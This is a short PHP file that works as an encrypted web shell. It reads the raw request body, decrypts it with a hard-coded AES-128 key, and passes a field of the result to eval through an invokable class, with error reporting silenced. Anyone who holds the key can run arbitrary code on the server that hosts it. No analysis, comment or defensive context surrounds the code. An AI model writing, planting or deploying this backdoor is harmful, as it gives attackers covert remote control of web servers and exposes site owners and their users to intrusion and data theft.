<?php
@error_reporting(0);
session_start();
$key = "00112233aabbccdd";
$_SESSION['k'] = $key;
$body = file_get_contents("php://input");
$body = openssl_decrypt($body, "AES128", $key);
$parts = explode('|', $body);
$arg = $parts[1];
class Runner { public function __invoke($p) { eval($p . ""); } }
@call_user_func(new Runner(), $arg);
